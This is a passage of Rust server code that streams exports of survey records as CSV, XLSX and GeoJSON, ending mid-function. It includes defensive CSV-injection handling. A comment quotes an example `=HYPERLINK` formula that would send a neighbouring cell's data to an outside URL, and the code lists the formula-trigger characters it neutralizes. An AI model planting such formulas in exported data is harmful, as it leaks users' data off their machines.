//! Exports per form and date range: CSV (a form's records, or one repeat
//! group's entries linked by record id), XLSX (labels in Chinese, one sheet
//! per repeat group and one of photo links, all linked by record id) and
//! GeoJSON (hazards, or any form with a location).
//!
//! Streamed, page by page: each page of records is one short read of the
//! store, then a blocking thread writes it through a sink into a bounded
//! channel, and the channel is the response body. A slow client slows the
//! export down instead of piling it up in memory, and while it is waited for
//! the export holds no database connection: the readers stay free for the
//! token checks of every device. What an export may hold is bounded too: at
//! most `max_concurrent_exports` run at once (each with its thread and its
//! buffers), and one whose client reads nothing for `export_stall_secs` is
//! abandoned. XLSX worksheets are written in constant-memory mode (rows go
//! to temporary files beside the data) and the finished workbook is zipped
//! straight into the response.

use std::collections::HashMap;
use std::io::{self, Write};
use std::ops::ControlFlow;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::task::Poll;
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::{Query, State};
use axum::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use beatbook_schema::catalogue::form_ids;
use beatbook_schema::form::{Field, FieldKind, FormDef};
use beatbook_schema::ids::{FormId, GridId, Sha256, UserId};
use beatbook_schema::record::RecordStatus;
use beatbook_schema::text::Lang;
use maud::{html, Markup};
use rust_xlsxwriter::{Color, Format, Url, Workbook, XlsxError};
use serde::Deserialize;
use serde_json::{json, Value as Json};
use tokio::sync::mpsc;
use tokio::sync::mpsc::error::SendTimeoutError;

use super::batches::{day_range, form_choices};
use super::error::ReviewError;
use super::i18n::{local_time, Tr};
use super::layout::{self, Nav};
use super::links::this_server;
use super::reviewer::Reviewer;
use super::values::{self, plain, show, Fmt, Shown};
use crate::state::AppState;
use beatbook_store::{ExportQuery, Store, StoreError, StoredRecord};

/// Records read from the store per page: one short read each.
const PAGE: u32 = 200;
/// Most stored bytes of records one page holds in memory.
const PAGE_BYTES: usize = 4 * 1024 * 1024;
/// Bytes per body chunk.
const CHUNK: usize = 64 * 1024;
/// Chunks in flight between the exporting thread and the client.
const IN_FLIGHT: usize = 8;
/// Excel allows 65,530 links per sheet; past this, links are written as text.
const MAX_LINKS_PER_SHEET: u32 = 65_000;
/// Excel's longest cell text.
const MAX_CELL_CHARS: usize = 32_000;

/// Response body bytes, sent in chunks as they are written. Sending waits
/// while the client is slow (backpressure), at most `stall` for one chunk,
/// and fails once the client has gone. The body ends cleanly only once the
/// sink calls [`ChunkWriter::complete`]: an export that stopped early for any
/// reason (an error, a client that read nothing for too long) ends the body
/// with an error, so the client sees a broken download, never a short one.
struct ChunkWriter {
    tx: mpsc::Sender<Bytes>,
    buf: Vec<u8>,
    complete: Arc<AtomicBool>,
    rt: tokio::runtime::Handle,
    stall: Duration,
    /// A send failed: the export is over, and so is every later send
    /// (a CSV writer flushes again when dropped).
    failed: bool,
}

/// A response body and the writer that feeds it (from a blocking thread).
fn body_and_writer(stall: Duration) -> (Body, ChunkWriter) {
    let (tx, mut rx) = mpsc::channel::<Bytes>(IN_FLIGHT);
    let complete = Arc::new(AtomicBool::new(false));
    let writer = ChunkWriter {
        tx,
        buf: Vec::with_capacity(CHUNK),
        complete: complete.clone(),
        rt: tokio::runtime::Handle::current(),
        stall,
        failed: false,
    };
    let mut ended = false;
    let body = Body::from_stream(futures_util::stream::poll_fn(move |cx| {
        // Layers above may poll an ended body again.
        if ended {
            return Poll::Ready(None);
        }
        match rx.poll_recv(cx) {
            Poll::Ready(Some(chunk)) => Poll::Ready(Some(Ok::<_, io::Error>(chunk))),
            Poll::Ready(None) => {
                ended = true;
                if complete.load(Ordering::Acquire) {
                    Poll::Ready(None)
                } else {
                    Poll::Ready(Some(Err(io::Error::other("the export stopped early"))))
                }
            }
            Poll::Pending => Poll::Pending,
        }
    }));
    (body, writer)
}

impl ChunkWriter {
    fn send(&mut self) -> io::Result<()> {
        if self.failed {
            return Err(io::Error::new(
                io::ErrorKind::BrokenPipe,
                "the export was given up",
            ));
        }
        if self.buf.is_empty() {
            return Ok(());
        }
        let chunk = Bytes::from(std::mem::replace(&mut self.buf, Vec::with_capacity(CHUNK)));
        let sent = self.rt.block_on(self.tx.send_timeout(chunk, self.stall));
        self.failed = sent.is_err();
        match sent {
            Ok(()) => Ok(()),
            Err(SendTimeoutError::Timeout(_)) => Err(io::Error::new(
                io::ErrorKind::TimedOut,
                "the client read nothing for too long",
            )),
            Err(SendTimeoutError::Closed(_)) => Err(io::Error::new(
                io::ErrorKind::BrokenPipe,
                "the client went away",
            )),
        }
    }

    /// Marks the body whole, after the last flush: it then ends cleanly.
    fn complete(&self) {
        if self.buf.is_empty() {
            self.complete.store(true, Ordering::Release);
        }
    }
}

impl Write for ChunkWriter {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        self.buf.extend_from_slice(data);
        if self.buf.len() >= CHUNK {
            self.send()?;
        }
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.send()
    }
}

/// Receives exported records one at a time, on a thread that may block
/// (so a sink can write a file or wait for a slow client: memory stays bounded).
trait RecordSink: Send {
    /// Takes one record; `Break` stops the export (the client went away, a write failed).
    fn record(&mut self, record: StoredRecord) -> ControlFlow<()>;
    /// Called once after the last record, unless the export stopped early.
    fn finish(&mut self);
}

/// Feeds the records `query` selects to `sink`, a page at a time; returns
/// how many it fed. Runs on a blocking thread, where the sink may wait for a
/// slow client and where it ends (a CSV writer flushes when dropped); the
/// pages are read through `rt`, so the store is used between pages only and
/// no database connection is held while the client is waited for. A write
/// made during the export reaches it only in the pages not yet read: a
/// record is exported whole and at most once (pages follow the record id),
/// as it stood when its page was read.
fn export(
    rt: &tokio::runtime::Handle,
    store: &dyn Store,
    query: ExportQuery,
    mut sink: Box<dyn RecordSink>,
) -> Result<u64, StoreError> {
    let mut after = None;
    let mut fed = 0;
    loop {
        let page = rt.block_on(store.export_page(query.clone(), after, PAGE, PAGE_BYTES))?;
        for r in page.records {
            fed += 1;
            if sink.record(r).is_break() {
                return Ok(fed);
            }
        }
        after = page.next;
        if after.is_none() {
            break;
        }
    }
    sink.finish();
    Ok(fed)
}

/// Which part of a form's records.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    /// One row per record.
    Records,
    /// One row per entry of this repeat group.
    Group(String),
}

/// One column of an export.
#[derive(Debug, Clone)]
enum Column {
    Id,
    Entry,
    Grid,
    Author,
    Created,
    Updated,
    Status,
    Revision,
    /// A field's value; a place is split in two columns.
    Field(Field),
    Lat(Field),
    Lon(Field),
}

/// A cell.
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Empty,
    Text(String),
    Number(f64),
    /// Photos: their links.
    Links(Vec<String>),
}

/// What every row of an export needs.
struct Ctx {
    def: FormDef,
    fmt: Fmt,
    grids: HashMap<String, String>,
    people: HashMap<UserId, String>,
    photo_base: String,
}

impl Ctx {
    fn photo_url(&self, sha: &Sha256) -> String {
        format!("{}/review/photos/{sha}", self.photo_base)
    }

    fn t<'a>(&self, zh: &'a str, en: &'a str) -> &'a str {
        self.fmt.lang.t(zh, en)
    }

    fn columns(&self, fields: &[Field], part: &Part) -> Vec<Column> {
        let mut cols = vec![Column::Id];
        match part {
            Part::Records => cols.extend([
                Column::Grid,
                Column::Author,
                Column::Created,
                Column::Updated,
                Column::Status,
                Column::Revision,
            ]),
            Part::Group(_) => cols.push(Column::Entry),
        }
        for f in fields {
            match f.kind {
                FieldKind::Note => {}
                FieldKind::Geopoint => {
                    cols.push(Column::Lat(f.clone()));
                    cols.push(Column::Lon(f.clone()));
                }
                _ => cols.push(Column::Field(f.clone())),
            }
        }
        cols
    }

    fn header(&self, c: &Column) -> String {
        let lang = self.fmt.lang;
        match c {
            Column::Id => self.t("记录编号", "Record id").to_owned(),
            Column::Entry => self.t("序号", "Entry").to_owned(),
            Column::Grid => self.t("网格", "Grid").to_owned(),
            Column::Author => self.t("填报人", "Entered by").to_owned(),
            Column::Created => self.t("创建时间", "Created").to_owned(),
            Column::Updated => self.t("最后修改", "Updated").to_owned(),
            Column::Status => self.t("审核状态", "Review status").to_owned(),
            Column::Revision => self.t("版本", "Revision").to_owned(),
            Column::Field(f) => match f.kind {
                FieldKind::Repeat { .. } => {
                    format!("{}{}", f.label.get(lang), self.t("（条数）", " (entries)"))
                }
                _ => f.label.get(lang).to_owned(),
            },
            Column::Lat(f) => format!("{}{}", f.label.get(lang), self.t("（纬度）", " (latitude)")),
            Column::Lon(f) => format!(
                "{}{}",
                f.label.get(lang),
                self.t("（经度）", " (longitude)")
            ),
        }
    }

    fn status(&self, s: RecordStatus) -> &str {
        match s {
            RecordStatus::Draft => self.t("草稿", "Draft"),
            RecordStatus::Submitted => self.t("待审核", "Pending"),
            RecordStatus::Approved => self.t("已通过", "Approved"),
            RecordStatus::Returned => self.t("已退回", "Returned"),
        }
    }

    fn field_cell(&self, f: &Field, value: Option<&Json>) -> Cell {
        let Some(shown) = value.and_then(|v| show(&self.def, f, v, self.fmt)) else {
            return Cell::Empty;
        };
        match (&f.kind, &shown) {
            (FieldKind::Integer { .. } | FieldKind::Decimal { .. }, _) => {
                value.and_then(Json::as_f64).map_or(
                    Cell::Text(plain(&shown, self.fmt, &|s| self.photo_url(s))),
                    Cell::Number,
                )
            }
            (_, Shown::Photos(p)) => Cell::Links(p.iter().map(|s| self.photo_url(s)).collect()),
            (_, Shown::Entries(rows)) => Cell::Number(rows.len() as f64),
            _ => Cell::Text(plain(&shown, self.fmt, &|s| self.photo_url(s))),
        }
    }

    /// The cells of one row: a record, or (with `entry`) one entry of a group.
    fn row(
        &self,
        cols: &[Column],
        r: &StoredRecord,
        entry: Option<(usize, &serde_json::Map<String, Json>)>,
    ) -> Vec<Cell> {
        let top = |name: &str| r.fields.get(name).map(|s| &s.value);
        let value = |name: &str| match entry {
            Some((_, e)) => e.get(name),
            None => top(name),
        };
        let place = |f: &Field, key: &str| {
            value(&f.name)
                .and_then(|v| v.get(key))
                .and_then(Json::as_f64)
                .map_or(Cell::Empty, Cell::Number)
        };
        cols.iter()
            .map(|c| match c {
                Column::Id => Cell::Text(r.id.to_string()),
                Column::Entry => Cell::Number(entry.map_or(0, |(i, _)| i + 1) as f64),
                Column::Grid => Cell::Text(
                    self.grids
                        .get(r.grid.as_str())
                        .cloned()
                        .unwrap_or_else(|| r.grid.to_string()),
                ),
                Column::Author => {
                    Cell::Text(self.people.get(&r.author).cloned().unwrap_or_default())
                }
                Column::Created => Cell::Text(local_time(r.created_at, self.fmt.offset)),
                Column::Updated => Cell::Text(local_time(r.updated_at, self.fmt.offset)),
                Column::Status => Cell::Text(self.status(r.status).to_owned()),
                Column::Revision => Cell::Number(r.revision as f64),
                Column::Field(f) => self.field_cell(f, value(&f.name)),
                Column::Lat(f) => place(f, "lat"),
                Column::Lon(f) => place(f, "lon"),
            })
            .collect()
    }

    /// A repeat group's entry fields.
    fn group(&self, name: &str) -> Option<(&Field, &[Field])> {
        values::fields(&self.def).find_map(|f| match &f.kind {
            FieldKind::Repeat { fields, .. } if f.name == name => Some((f, fields.as_slice())),
            _ => None,
        })
    }

    fn top_fields(&self) -> Vec<Field> {
        values::fields(&self.def).cloned().collect()
    }
}

fn entries<'a>(
    r: &'a StoredRecord,
    group: &str,
) -> impl Iterator<Item = (usize, &'a serde_json::Map<String, Json>)> {
    r.fields
        .get(group)
        .and_then(|s| s.value.as_array())
        .into_iter()
        .flatten()
        .filter_map(Json::as_object)
        .enumerate()
}

// ---- CSV ----

/// A cell as CSV text: numbers plain, every text neutralized.
fn csv_cell(c: &Cell) -> String {
    match c {
        Cell::Empty => String::new(),
        // A number is a number because its field holds numbers, so a
        // negative one stays data (`-3.5`), never a neutralized text.
        Cell::Number(n) => n.to_string(),
        Cell::Text(s) => neutralized(s),
        Cell::Links(l) => neutralized(&l.join(" ")),
    }
}

/// Text that a spreadsheet opening the CSV shows as typed. Excel and WPS run
/// a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return as a
/// formula (`=HYPERLINK("http://…?"&C2,"详情")` would send a neighbouring
/// cell away), so such text gets a leading `'`, as OWASP advises for CSV
/// injection. The XLSX export needs none of this: it writes text as string
/// cells, which are never formulas.
fn neutralized(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

struct CsvSink {
    ctx: Arc<Ctx>,
    cols: Vec<Column>,
    part: Part,
    out: csv::Writer<ChunkWriter>,
}

impl CsvSink {
    fn new(ctx: Arc<Ctx>, part: Part, mut chunks: ChunkWriter) -> Self {
        let fields = match &part {
            Part::Records => ctx.top_fields(),
            Part::Group(g) => ctx.group(g).map(|(_, f)| f.to_vec()).unwrap_or_default(),
        };
        let cols = ctx.columns(&fields, &part);
        // A byte-order mark, so that Excel reads the UTF-8 as UTF-8.
        chunks.buf.extend_from_slice("\u{feff}".as_bytes());
        let mut out = csv::Writer::from_writer(chunks);
        let headers: Vec<String> = cols.iter().map(|c| neutralized(&ctx.header(c))).collect();
        let _ = out.write_record(&headers);
        Self {
            ctx,
            cols,
            part,
            out,
        }
    }
}

impl RecordSink for CsvSink {
    fn record(&mut self, r: StoredRecord) -> ControlFlow<()> {
        let rows: Vec<Vec<Cell>> = match &self.part {
            Part::Records => vec![self.ctx.row(&self.cols, &r, None)],
            Part::Group(g) => entries(&r, g)
                .map(|e| self.ctx.row(&self.cols, &r, Some(e)))
                .collect(),
        };
        for row in rows {
            if self.out.write_record(row.iter().map(csv_cell)).is_err() {
                return ControlFlow::Break(());
            }
        }
        ControlFlow::Continue(())
    }

    fn finish(&mut self) {
        if self.out.flush().is_ok() {
            self.out.get_ref().complete();
        }
    }
}

// ---- GeoJSON ----

struct GeoJsonSink {
    ctx: Arc<Ctx>,
    place: Option<Field>,
    out: ChunkWriter,
    first: bool,
}

impl RecordSink for GeoJsonSink {
    fn record(&mut self, r: StoredRecord) -> ControlFlow<()> {
        let fmt = self.ctx.fmt;
        let mut props = serde_json::Map::new();
        props.insert("id".into(), json!(r.id));
        props.insert("form".into(), json!(r.form_id));
        props.insert(
            "title".into(),
            json!(values::summary(
                &self.ctx.def,
                &beatbook_schema::merge::values(&r.fields),
                fmt,
                &HashMap::new()
            )),
        );
        props.insert("grid".into(), json!(r.grid));
        props.insert(
            "grid_name".into(),
            json!(self.ctx.grids.get(r.grid.as_str())),
        );
        props.insert("author".into(), json!(self.ctx.people.get(&r.author)));
        props.insert("created_at".into(), json!(r.created_at));
        props.insert("updated_at".into(), json!(r.updated_at));
        props.insert("review_status".into(), json!(self.ctx.status(r.status)));
        for f in values::fields(&self.ctx.def) {
            let Some(v) = r.fields.get(&f.name).map(|s| &s.value) else {
                continue;
            };
            let cell = match (&f.kind, show(&self.ctx.def, f, v, fmt)) {
                (FieldKind::Geopoint | FieldKind::Note, _) | (_, None) => continue,
                (FieldKind::Integer { .. } | FieldKind::Decimal { .. }, _) => v.clone(),
                (FieldKind::SingleChoice { .. }, Some(s)) => {
                    // The label, and the stable value for styling and filtering.
                    props.insert(format!("{}_value", f.name), v.clone());
                    json!(plain(&s, fmt, &|h| self.ctx.photo_url(h)))
                }
                (_, Some(Shown::Photos(p))) => {
                    json!(p.iter().map(|h| self.ctx.photo_url(h)).collect::<Vec<_>>())
                }
                (_, Some(s)) => json!(plain(&s, fmt, &|h| self.ctx.photo_url(h))),
            };
            props.insert(f.name.clone(), cell);
        }
        let geometry = self
            .place
            .as_ref()
            .and_then(|f| r.fields.get(&f.name))
            .and_then(|s| Some((s.value.get("lon")?.as_f64()?, s.value.get("lat")?.as_f64()?)))
            .map_or(
                Json::Null,
                |(lon, lat)| json!({"type": "Point", "coordinates": [lon, lat]}),
            );
        let feature =
            json!({"type": "Feature", "id": r.id, "geometry": geometry, "properties": props});
        let sep: &[u8] = if self.first { b"\n" } else { b",\n" };
        self.first = false;
        let written = self
            .out
            .write_all(sep)
            .and_then(|_| serde_json::to_writer(&mut self.out, &feature).map_err(io::Error::other));
        if written.is_err() {
            return ControlFlow::Break(());
        }
        ControlFlow::Continue(())
    }

    fn finish(&mut self) {
        if self
            .out
            .write_all(b"\n]}\n")
            .and_then(|_| self.out.flush())
            .is_ok()
        {
            self.out.complete();
        }
    }
}

// ---- XLSX ----

/// A worksheet being written: its columns and next row.
struct Sheet {
    cols: Vec<Column>,
    row: u32,
    links: u32,
}

struct XlsxSink {
    ctx: Arc<Ctx>,
    book: Workbook,
    /// Index 0: the records; then one per repeat group (with its field name); last: photos.
    sheets: Vec<(Option<String>, Sheet)>,
    photos: Sheet,
    out: Option<ChunkWriter>,
}

/// An Excel sheet name: at most 31 characters, none of `[]:*?/\`.
fn sheet_name(name: &str, taken: &mut Vec<String>) -> String {
    let clean: String = name
        .chars()
        .map(|c| if "[]:*?/\\".contains(c) { '_' } else { c })
        .take(28)
        .collect();
    let mut candidate = clean.clone();
    let mut n = 2;
    while taken.iter().any(|t| t.eq_ignore_ascii_case(&candidate)) {
        candidate = format!("{clean}{n}");
        n += 1;
    }
    taken.push(candidate.clone());
    candidate
}

impl XlsxSink {
    fn new(ctx: Arc<Ctx>, tmp: &std::path::Path, out: ChunkWriter) -> Result<Self, XlsxError> {
        let mut book = Workbook::new();
        std::fs::create_dir_all(tmp).map_err(XlsxError::IoError)?;
        book.set_tempdir(tmp)?;
        let header = Format::new()
            .set_bold()
            .set_background_color(Color::RGB(0xE3EAF3))
            .set_font_color(Color::RGB(0x1F3A5F));
        let lang = ctx.fmt.lang;
        let mut taken = Vec::new();
        let mut sheets = vec![(
            None,
            Sheet {
                cols: ctx.columns(&ctx.top_fields(), &Part::Records),
                row: 1,
                links: 0,
            },
        )];
        let mut names = vec![sheet_name(ctx.def.title.get(lang), &mut taken)];
        for f in values::fields(&ctx.def) {
            if let FieldKind::Repeat { fields, .. } = &f.kind {
                let part = Part::Group(f.name.clone());
                sheets.push((
                    Some(f.name.clone()),
                    Sheet {
                        cols: ctx.columns(fields, &part),
                        row: 1,
                        links: 0,
                    },
                ));
                names.push(sheet_name(f.label.get(lang), &mut taken));
            }
        }
        let photos = Sheet {
            cols: Vec::new(),
            row: 1,
            links: 0,
        };
        names.push(sheet_name(lang.t("照片", "Photos"), &mut taken));
        for (i, name) in names.iter().enumerate() {
            let ws = book.add_worksheet_with_constant_memory()?;
            ws.set_name(name)?;
            ws.set_freeze_panes(1, 0)?;
            let headers: Vec<String> = match sheets.get(i) {
                Some((_, s)) => s.cols.iter().map(|c| ctx.header(c)).collect(),
                None => vec![
                    ctx.t("记录编号", "Record id").to_owned(),
                    ctx.t("字段", "Field").to_owned(),
                    ctx.t("序号", "No.").to_owned(),
                    ctx.t("照片链接", "Photo link").to_owned(),
                ],
            };
            for (c, h) in headers.iter().enumerate() {
                let width = if c == 0 {
                    38.0
                } else {
                    (h.chars().count() as f64 * 2.2).clamp(10.0, 40.0)
                };
                ws.set_column_width(c as u16, width)?;
                ws.write_string_with_format(0, c as u16, h, &header)?;
            }
        }
        Ok(Self {
            ctx,
            book,
            sheets,
            photos,
            out: Some(out),
        })
    }

    fn write_row(
        book: &mut Workbook,
        index: usize,
        sheet: &mut Sheet,
        cells: &[Cell],
        ctx: &Ctx,
    ) -> Result<(), XlsxError> {
        let ws = book.worksheet_from_index(index)?;
        for (c, cell) in cells.iter().enumerate() {
            let c = c as u16;
            match cell {
                Cell::Empty => {}
                Cell::Text(s) => {
                    let s: String = s.chars().take(MAX_CELL_CHARS).collect();
                    ws.write_string(sheet.row, c, &s)?;
                }
                Cell::Number(n) => {
                    ws.write_number(sheet.row, c, *n)?;
                }
                Cell::Links(links) => {
                    let text = match ctx.fmt.lang {
                        Lang::Zh => format!("查看照片（{}张）", links.len()),
                        Lang::En => format!("view photo ({})", links.len()),
                    };
                    match links.first() {
                        Some(first) if sheet.links < MAX_LINKS_PER_SHEET => {
                            ws.write_url_with_text(sheet.row, c, Url::new(first.as_str()), &text)?;
                            sheet.links += 1;
                        }
                        _ => {
                            ws.write_string(sheet.row, c, links.join(" "))?;
                        }
                    }
                }
            }
        }
        sheet.row += 1;
        Ok(())
    }

    fn add(&mut self, r: &StoredRecord) -> Result<(), XlsxError> {
        let ctx = self.ctx.clone();
        let photo_index = self.sheets.len();
        for (index, (group, sheet)) in self.sheets.iter_mut().enumerate() {
            match group {
                None => {
                    let cells = ctx.row(&sheet.cols, r, None);
                    Self::write_row(&mut self.book, index, sheet, &cells, &ctx)?;
                }
                Some(g) => {
                    for e in entries(r, g) {
                        let cells = ctx.row(&sheet.cols, r, Some(e));
                        Self::write_row(&mut self.book, index, sheet, &cells, &ctx)?;
                    }
                }
            }
        }
        // Every photo of the record, one row each, with its link.
        for f in values::fields(&ctx.def) {
            if !matches!(f.kind, FieldKind::Photo { .. }) {
                continue;
            }
            let hashes: Vec<Sha256> = r
                .fields
                .get(&f.name)
                .and_then(|s| s.value.as_array())
                .into_iter()
                .flatten()
                .filter_map(|v| v.as_str()?.parse().ok())
                .collect();
            for (i, sha) in hashes.iter().enumerate() {
                let ws = self.book.worksheet_from_index(photo_index)?;
                let row = self.photos.row;
                ws.write_string(row, 0, r.id.to_string())?;
                ws.write_string(row, 1, f.label.get(ctx.fmt.lang))?;
                ws.write_number(row, 2, (i + 1) as f64)?;
                let url = ctx.photo_url(sha);
                if self.photos.links < MAX_LINKS_PER_SHEET {
                    ws.write_url(row, 3, Url::new(url.as_str()))?;
                    self.photos.links += 1;
                } else {
                    ws.write_string(row, 3, &url)?;
                }
                self.photos.row += 1;
            }
        }
        Ok(())
    }
}

impl RecordSink for XlsxSink {
    fn record(&mut self, r: StoredRecord) -> ControlFlow<()> {
        match self.add(&r) {
            Ok(()) => ControlFlow::Continue(()),
            Err(e) => {
                tracing::error!(error = %e, "xlsx export failed");
                ControlFlow::Break(())
            }
        }
    }

    fn finish(&mut self) {
        let Some(mut out) = self.out.take() else {
            return;
        };
        match self.book.save_to_writer(&mut out) {
            Ok(()) => {
                if out.flush().is_ok() {
                    out.complete();
                }
            }
            Err(e) => tracing::error!(error = %e, "xlsx export failed"),
        }
    }
}

// ---- the pages ----

/// Query of a download.
#[derive(Debug, Default, Deserialize)]
pub struct ExportParams {
    form: Option<String>,
    format: Option<String>,
    part: Option<String>,
    from: Option<String>,
    to: Option<String>,
    grid: Option<String>,
}

/// What an export is written as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ExportFormat {
    /// An Excel workbook, a sheet per repeat group.
    Xlsx,
    /// CSV of the records, or of one repeat group's entries.
    Csv,
    /// A GeoJSON feature collection, for forms with a location.
    GeoJson,
}

impl ExportFormat {
    /// The format a download names (a workbook when it names none).
    fn parse(given: Option<&str>) -> Result<Self, ReviewError> {
        match given {
            None | Some("xlsx") => Ok(Self::Xlsx),
            Some("csv") => Ok(Self::Csv),
            Some("geojson") => Ok(Self::GeoJson),
            Some(_) => Err(ReviewError::bad_request(
                "未知的导出格式",
                "unknown export format",
            )),
        }
    }

    /// Its name in a download's query, which is also the file's extension.
    fn as_str(self) -> &'static str {
        match self {
            Self::Xlsx => "xlsx",
            Self::Csv => "csv",
            Self::GeoJson => "geojson",
        }
    }
}

fn given(v: &Option<String>) -> Option<&str> {
    v.as_deref().map(str::trim).filter(|s| !s.is_empty())
}

/// `GET /review/exports`: what to export.
pub async fn page(State(state): State<AppState>, r: Reviewer) -> Result<Markup, ReviewError> {
    let forms = state.recent_forms().await?;
    let today = chrono::Utc::now().with_timezone(&r.offset).date_naive();
    let month_start = today.format("%Y-%m-01").to_string();
    let mut groups = Vec::new();
    for (id, title) in form_choices(&forms, r.lang) {
        if let Some(f) = forms.latest(&id) {
            for field in values::fields(f.def()) {
                if matches!(field.kind, FieldKind::Repeat { .. }) {
                    groups.push((
                        id.clone(),
                        field.name.clone(),
                        format!("{title} — {}", field.label.get(r.lang)),
                    ));
                }
            }
        }
    }
    let body = html! {
        div.page-head {
            h1 { (r.t("数据导出", "Exports")) }
            p.muted {
                (r.t("按表单和日期（记录创建日期）导出您管辖范围内的记录。表头为中文标签，选项显示为文字，照片为链接（需登录后打开）。每次导出都记入审计日志。",
                     "Export the records of your scope by form and date (the day a record was created). Headers are the forms' labels, choices are shown as text, photos as links (open them signed in). Every export is written to the audit log."))
            }
        }
        form.card.export method="get" action="/review/exports/download" {
            div.grid2 {
                label { (r.t("表单", "Form"))
                    select name="form" required {
                        @for (id, title) in form_choices(&forms, r.lang) {
                            option value=(id) selected[id == form_ids::HAZARD] { (title) }
                        }
                    }
                }
                label { (r.t("网格", "Grid"))
                    select name="grid" {
                        option value="" { (r.t("全部网格", "All grids")) }
                        @for g in &r.grids { option value=(g.id) { (g.name) } }
                    }
                }
                label { (r.t("创建日期自", "Created from"))
                    input type="date" name="from" value=(month_start); }
                label { (r.t("至", "to"))
                    input type="date" name="to" value=(today.to_string()); }
                label { (r.t("CSV 内容", "CSV contents"))
                    select name="part" {
                        option value="" { (r.t("记录（每条记录一行）", "Records (one row each)")) }
                        @for (form, field, label) in &groups {
                            option value=(format!("{form}:{field}")) { (label) (r.t("（每项一行）", " (one row per entry)")) }
                        }
                    }
                }
            }
            div.buttons {
                button.primary type="submit" name="format" value=(ExportFormat::Xlsx.as_str()) { (r.t("导出 Excel", "Export Excel")) }
                button type="submit" name="format" value=(ExportFormat::Csv.as_str()) { (r.t("导出 CSV", "Export CSV")) }
                button type="submit" name="format" value=(ExportFormat::GeoJson.as_str()) { (r.t("导出 GeoJSON（地图）", "Export GeoJSON (map)")) }
            }
            p.small.muted {
                (r.t("Excel 文件中：第一个工作表为记录，重复项（如居住人员）各占一个工作表、以“记录编号”关联，另有“照片”工作表列出全部照片链接。GeoJSON 适用于带定位的表单（如安全隐患）。",
                     "In the Excel file the first sheet holds the records; each repeat group (e.g. residents) has its own sheet linked by record id, and a Photos sheet lists every photo link. GeoJSON suits forms with a location (e.g. hazards)."))
            }
        }
    };
    Ok(layout::page(
        &r,
        Nav::Exports,
        r.t("数据导出", "Exports"),
        None,
        body,
    ))
}

/// `GET /review/exports/download`.
pub async fn download(
    State(state): State<AppState>,
    r: Reviewer,
    headers: HeaderMap,
    Query(p): Query<ExportParams>,
) -> Result<Response, ReviewError> {
    let forms = state.recent_forms().await?;
    let form_id =
        given(&p.form).ok_or_else(|| ReviewError::bad_request("请选择表单", "choose a form"))?;
    let def = forms
        .latest(form_id)
        .map(|f| f.def().clone())
        .ok_or_else(ReviewError::not_found)?;
    let format = ExportFormat::parse(given(&p.format))?;
    // A repeat group's own CSV; in a workbook every group has its sheet anyway.
    let part = match given(&p.part).and_then(|part| part.split_once(':')) {
        Some((f, group)) if f == form_id && format == ExportFormat::Csv => {
            Part::Group(group.to_owned())
        }
        _ => Part::Records,
    };
    if let Part::Group(g) = &part {
        let is_group = values::fields(&def)
            .any(|f| f.name == *g && matches!(f.kind, FieldKind::Repeat { .. }));
        if !is_group {
            return Err(ReviewError::bad_request(
                "该表单没有这个重复项",
                "the form has no such repeat group",
            ));
        }
    }
    let place = values::fields(&def)
        .find(|f| matches!(f.kind, FieldKind::Geopoint))
        .cloned();
    if format == ExportFormat::GeoJson && place.is_none() {
        return Err(ReviewError::bad_request(
            "该表单没有定位字段，不能导出 GeoJSON",
            "the form has no location field: GeoJSON is not available for it",
        ));
    }
    let (from, before) = day_range(given(&p.from), given(&p.to), r.offset)?;
    let grid = given(&p.grid).map(GridId::new);
    if grid.as_ref().is_some_and(|g| !r.scope.contains(g)) {
        return Err(ReviewError::not_found());
    }
    // A turn for the whole export, taken before anything is read or written.
    let Ok(turn) = state.export_turns.clone().try_acquire_owned() else {
        return Err(ReviewError::page(
            StatusCode::SERVICE_UNAVAILABLE,
            "服务器正忙于其他导出，请稍等一分钟再试",
            "the server is busy with other exports: try again in a minute",
        ));
    };
    let people = state.user_names().await?;
    let ctx = Arc::new(Ctx {
        def: def.clone(),
        fmt: Fmt {
            lang: r.lang,
            offset: r.offset,
        },
        grids: r
            .grids
            .iter()
            .map(|g| (g.id.to_string(), g.name.clone()))
            .collect(),
        people,
        photo_base: this_server(&headers),
    });
    let query = ExportQuery {
        scope: r.scope.clone(),
        form: FormId::new(form_id),
        grid: grid.clone(),
        created_from: from,
        created_before: before,
    };
    let part_name = match &part {
        Part::Records => None,
        Part::Group(g) => Some(g.clone()),
    };
    state
        .store
        .append_audit(r.audit(
            "export",
            format!("form:{form_id}"),
            json!({
                "format": format.as_str(), "part": part_name, "grid": grid,
                "from": given(&p.from), "to": given(&p.to),
            }),
        ))
        .await?;
    tracing::info!(form = form_id, format = format.as_str(), "export");

    let (body, mut out) =
        body_and_writer(Duration::from_secs(state.config.export_stall_secs.max(1)));
    let (sink, content_type): (Box<dyn RecordSink>, &str) = match format {
        ExportFormat::Csv => (
            Box::new(CsvSink::new(ctx.clone(), part.clone(), out)),
            "text/csv; charset=utf-8",
        ),
        ExportFormat::GeoJson => {
            out.buf
                .extend_from_slice(b"{\"type\":\"FeatureCollection\",\"features\":[");
            (
                Box::new(GeoJsonSink {
                    ctx: ctx.clone(),
                    place,
                    out,
                    first: true,
                }),
                "application/geo+json",
            )
        }
        ExportFormat::Xlsx => {
            let tmp = state.config.data_dir.join("tmp");
            let sink = tokio::task::spawn_blocking({
                let ctx = ctx.clone();
                move || XlsxSink::new(ctx, &tmp, out)
            })
            .await
            .map_err(|e| beatbook_store::StoreError::Task(e.to_string()))?
            .map_err(|e| beatbook_store::StoreError::Task(format!("xlsx: {e}")))?;
            (
                Box::new(sink),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            )
        }
    };
    let (store, rt) = (state.store.clone(), tokio::runtime::Handle::current());
    tokio::task::spawn_blocking(move || {
        let _turn = turn;
